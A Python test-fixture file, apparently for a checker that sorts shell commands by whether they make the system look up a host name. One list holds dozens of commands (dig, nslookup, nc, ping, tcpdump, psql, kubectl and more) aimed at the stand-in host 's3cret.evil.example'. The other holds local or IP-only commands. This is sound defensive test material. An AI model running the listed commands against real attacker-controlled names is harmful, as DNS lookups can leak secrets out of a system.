"""Commands with a name that a program may ask a resolver for, and the same with none."""

RESOLVING = """
    ss -tn dst s3cret.evil.example
    ss -tan 'dst s3cret.evil.example:443'
    ss -t src s3cret.evil.example
    ss -tn '( dst s3cret.evil.example )'
    ss -tn dst = s3cret.evil.example
    ss -tn 'dport = :80 and dst s3cret.evil.example'
    ss -tnp state established dst s3cret.evil.example
    ss -tn '!dst s3cret.evil.example'
    ss -tn dst inet:s3cret.evil.example
    ss -tn dst s3cret
    lsof -i@s3cret.evil.example
    lsof -i @s3cret.evil.example
    lsof -iTCP@s3cret.evil.example:443
    lsof -nP -i@s3cret.evil.example
    lsof -i4@s3cret.evil.example
    lsof -i@s3cret
    arp s3cret.evil.example
    arp -a s3cret.evil.example
    arp -n s3cret.evil.example
    arp -n s3cret
    fuser -n tcp ,s3cret.evil.example,80
    fuser 80,s3cret.evil.example/tcp
    fuser -n udp 53,s3cret.evil.example
    fuser -v -n tcp 80,s3cret.evil.example,443
    tcpdump -c 1 -i lo host s3cret.evil.example
    tcpdump -c 1 -n -i lo host s3cret.evil.example
    tcpdump -r /tmp/x.pcap host s3cret.evil.example
    tcpdump -r /tmp/x.pcap 'dst host s3cret.evil.example and port 80'
    tcpdump -r /tmp/x.pcap src s3cret.evil.example
    tcpdump -r /tmp/x.pcap net s3cret.evil.example
    tcpdump -r /tmp/x.pcap gateway s3cret.evil.example
    tcpdump -r /tmp/x.pcap 'tcp and (src s3cret or dst s3cret2)'
    tcpdump -nr /tmp/x.pcap ether host s3cret
    conntrack -L -d s3cret.evil.example
    conntrack -L -s s3cret.evil.example
    conntrack -L --orig-src=s3cret.evil.example
    conntrack -L --orig-dst s3cret.evil.example
    conntrack -L --src s3cret.evil.example
    chronyc ntpdata s3cret.evil.example
    chronyc -n ntpdata s3cret.evil.example
    chronyc sourcename s3cret.evil.example
    chronyc selectdata s3cret.evil.example
    ifconfig s3cret.evil.example
    iptables -L s3cret -d s3cret.evil.example
    ping -c 1 s3cret.evil.example
    ping -c 1 -I s3cret.evil.example 127.0.0.1
    host s3cret.evil.example
    dig s3cret.evil.example
    nslookup s3cret.evil.example
    getent hosts s3cret.evil.example
    getent ahosts s3cret.evil.example
    resolvectl query s3cret.evil.example
    traceroute s3cret.evil.example
    mtr -r -c 1 s3cret.evil.example
    nc -z s3cret.evil.example 80
    ntpq -p s3cret.evil.example
    redis-cli -h s3cret.evil.example ping
    mysql -h s3cret.evil.example -e 'select 1'
    psql -h s3cret.evil.example -c 'select 1'
    psql 'host=s3cret.evil.example' -c 'select 1'
    pg_isready -h s3cret.evil.example
    mysqladmin -h s3cret.evil.example status
    mongosh --host s3cret.evil.example --eval 'db.stats()'
    netstat -rn -A s3cret.evil.example
    ip route get s3cret.evil.example
    rpcinfo -p s3cret.evil.example
    showmount -e s3cret.evil.example
    docker -H tcp://s3cret.evil.example:2375 ps
    kubectl --server=https://s3cret.evil.example get pods
    ceph -m s3cret.evil.example status
    rbd ls -m s3cret.evil.example
    etcdctl --endpoints=s3cret.evil.example:2379 endpoint health
    rabbitmqctl -n rabbit@s3cret.evil.example status
    rabbitmq-diagnostics -n rabbit@s3cret.evil.example status
    nodetool -h s3cret.evil.example status
    ipvsadm -L -t s3cret.evil.example:80
    systemctl -H s3cret.evil.example status
    systemctl -H root@s3cret.evil.example status nginx
    systemctl -M s3cret.evil.example status
    journalctl -M s3cret.evil.example -n 5
    pvesh get /nodes/s3cret.evil.example/status
    ausearch -hn s3cret.evil.example
    ipcalc s3cret.evil.example
    ipcalc 10.0.0.1 s3cret
    openssl s_client -connect s3cret.evil.example:443
    smbclient -L s3cret.evil.example
    drill s3cret.evil.example
    whois s3cret.evil.example
    ipset test blocked s3cret.evil.example
    ufw status s3cret.evil.example
    snmpget -v2c -c public s3cret.evil.example sysDescr.0
    lpstat -h s3cret.evil.example
    zabbix_get -s s3cret.evil.example -k agent.ping
"""
"""None of these may pass as a read that reaches nobody. Some are no proven reads at all."""

NOT_RESOLVING = """
    ss -tn dst 10.0.0.5
    ss -tn dst 10.0.0.0/8
    ss -tn dst 203.0.113.9:443
    ss -tn 'dst [2001:db8::1]:443'
    ss -tn sport = :443
    ss -tn '( sport = :443 or dport = :80 )'
    ss -tn state established
    ss -tnp state time-wait
    ss -tuln
    ss -ltnp
    ss -xlp
    ss -s
    ss -tn dst 127.0.0.1:5432
    ss -o state established '( dport = :ssh or sport = :ssh )'
    lsof -i
    lsof -i :8080
    lsof -i tcp:443
    lsof -iTCP -sTCP:LISTEN
    lsof -nP -iTCP:5432 -sTCP:ESTABLISHED
    lsof -i@10.0.0.5
    lsof -i@10.0.0.5:443
    lsof -p 1234
    lsof -u postgres
    lsof /var/log/syslog
    lsof +D /var/log/nginx
    lsof +L1
    lsof -nP
    arp -an
    arp -n
    arp -n 10.0.0.1
    fuser -n tcp 80
    fuser 80/tcp
    fuser -v /var/log/syslog
    fuser -m /srv
    tcpdump -D
    tcpdump -c 10 -n -i eth0 port 443
    tcpdump -c 10 -n -i any tcp port 5432
    tcpdump -c 10 -n host 10.0.0.5
    tcpdump -n -r /tmp/x.pcap 'host 10.0.0.5 and port 80'
    tcpdump -n -r /tmp/x.pcap icmp
    tcpdump -n -r /tmp/x.pcap 'tcp[tcpflags] & tcp-syn != 0'
    conntrack -L
    conntrack -C
    conntrack -S
    conntrack -L -p tcp --dport=443
    conntrack -L -d 10.0.0.5
    conntrack -L -s 203.0.113.7
    chronyc tracking
    chronyc sources -v
    chronyc sourcestats
    chronyc -n sources
    chronyc ntpdata 10.0.0.1
    ifconfig -a
    ifconfig eth0
    netstat -tulpn
    netstat -rn
    netstat -s
    ip addr show
    ip -s link show eth0
    ip route get 10.0.0.1
    ip route get 203.0.113.9
    ip route show table all
    ip neigh show dev eth0
    iptables -L -n -v
    iptables -S
    nft list ruleset
    ipvsadm -L -n
    route -n
    last -n 20
    w
    who
    getent passwd root
    getent group docker
    resolvectl status
    journalctl -u ssh -n 20
    systemctl status nginx
    kubectl get pods -n default
    docker ps -a
    redis-cli ping
    mysql -e 'show processlist'
    psql -c 'select 1'
    ping -c 1 127.0.0.1
    nc -z localhost 5432
    getent hosts localhost
    ipcalc 10.0.0.0/24
    ethtool eth0
    bridge link show
    tc -s qdisc show dev eth0
    ntpq -p
    wg show
    nmcli device status
    mtr -r -c 1 127.0.0.1
    ceph -s
    df -h
    lsblk
    uptime
    free -m
    ps aux
    vmstat 1 3
    iostat -x 1 2
    sar -n DEV 1 3
"""
